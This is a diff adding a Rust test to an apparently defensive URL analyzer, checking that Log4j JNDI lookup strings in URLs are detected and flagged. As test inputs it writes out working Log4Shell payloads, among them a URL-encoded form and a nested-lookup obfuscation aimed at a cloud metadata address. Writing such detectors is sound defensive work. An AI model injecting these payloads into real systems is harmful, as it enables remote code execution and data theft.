@@ -188,3 +188,61 @@ fn a_refused_url_leads_past_its_last_at() {
         .expect("a host");
     assert_eq!(host.canonical, "1.2.3.4.5");
 }
+
+/// The directory a Log4j lookup names is where a vulnerable server that
+/// logs the URL connects: a destination, found as written (across path
+/// segments too), decoded, and spelled by nested lookups, whose host is
+/// judged as any carried host's; never an `open-redirect` (the lookup is
+/// no redirect, and `jndi-lookup` names it).
+#[test]
+fn a_log4j_lookup_leads_to_its_directory() {
+    let lookup = |url: &str| {
+        let a = analyze(url.as_bytes(), &Options::default());
+        assert!(
+            a.warnings
+                .iter()
+                .all(|w| w.code != WarningCode::OpenRedirect),
+            "{url}: {:?}",
+            a.warnings
+        );
+        let d = a.destinations.get(1).cloned();
+        (a, d)
+    };
+    let (a, d) = lookup("https://example.com/?q=${jndi:ldap://127.0.0.1:1389/a}");
+    let d = d.expect("the directory");
+    assert_eq!(d.via, "query value 'q' → Log4j JNDI lookup");
+    assert_eq!(d.target, "ldap://127.0.0.1:1389/a");
+    assert_eq!((d.span, d.component), (Span::new(23, 54), Some(4)));
+    let internal = a
+        .warnings
+        .iter()
+        .find(|w| w.code == WarningCode::InternalDestination)
+        .expect("a loopback directory");
+    assert_eq!(internal.severity, Severity::High);
+    // Across the path's segments; the look-alike marked on its own byte.
+    let url = "https://example.com/${jndi:ldap://paypa1.com/x}";
+    let (a, d) = lookup(url);
+    assert_eq!(d.expect("the directory").via, "path → Log4j JNDI lookup");
+    let imitation = a
+        .warnings
+        .iter()
+        .find(|w| w.code == WarningCode::LookalikeDomain)
+        .expect("a look-alike directory");
+    assert_eq!(imitation.spans, [Span::new(39, 40)]);
+    // Decoded, and spelled by nested lookups: the whole lookup marked.
+    let (_, d) = lookup("https://example.com/?q=%24%7Bjndi%3Armi%3A%2F%2F10.0.0.5%2Fa%7D");
+    assert_eq!(d.expect("decoded").target, "rmi://10.0.0.5/a");
+    let (a, d) = lookup("https://example.com/?q=${${lower:j}ndi:ldap://169.254.169.254/a}");
+    let d = d.expect("spelled by nested lookups");
+    assert_eq!(d.span, Span::new(23, 64));
+    assert_eq!(a.destination_severity(&d), Some(Severity::High));
+    // A name in the server's own directory leads nowhere; a lookup
+    // written twice is one destination.
+    assert_eq!(
+        lookup("https://example.com/?q=${jndi:java:comp/env}").1,
+        None
+    );
+    let (a, _) =
+        lookup("https://example.com/?a=${jndi:dns://x.example/}&b=${jndi:dns://x.example/}");
+    assert_eq!(a.destinations.len(), 2);
+}
